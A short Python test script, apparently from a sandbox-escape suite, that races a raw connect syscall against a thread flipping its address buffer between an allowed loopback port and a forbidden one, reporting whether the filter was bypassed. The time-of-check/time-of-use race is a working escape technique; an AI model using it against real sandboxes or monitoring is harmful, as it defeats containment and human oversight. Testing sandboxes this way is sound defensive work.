"""Change the address while the call that names it is being checked."""

import ctypes
import socket
import struct
import threading
import time

from attack import OUTSIDE, syscall_number, verdict

SECONDS = 0.4
ADDRESS_BYTES = 16


def loopback_address(port):
    family = struct.pack("=H", socket.AF_INET)
    return family + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)


libc = ctypes.CDLL(None, use_errno=True)
server = socket.create_server(("127.0.0.1", 0), backlog=4096)
own_port = server.getsockname()[1]
own_address = loopback_address(own_port)
other_address = loopback_address(OUTSIDE["port"])
buffer = ctypes.create_string_buffer(own_address, ADDRESS_BYTES)
stopped = threading.Event()


def flip():
    while not stopped.is_set():
        ctypes.memmove(buffer, other_address, ADDRESS_BYTES)
        ctypes.memmove(buffer, own_address, ADDRESS_BYTES)


threading.Thread(target=flip, daemon=True).start()
escaped = False
deadline = time.monotonic() + SECONDS
while time.monotonic() < deadline and not escaped:
    with socket.socket() as sock:
        result = libc.syscall(syscall_number("connect"), sock.fileno(), buffer, ADDRESS_BYTES)
        if result == 0:
            port = sock.getpeername()[1]
            escaped = port == OUTSIDE["port"]
            if port == own_port:
                # Once 4,096 connections wait to be accepted, further calls block for minutes.
                server.accept()[0].close()
stopped.set()
verdict(escaped)
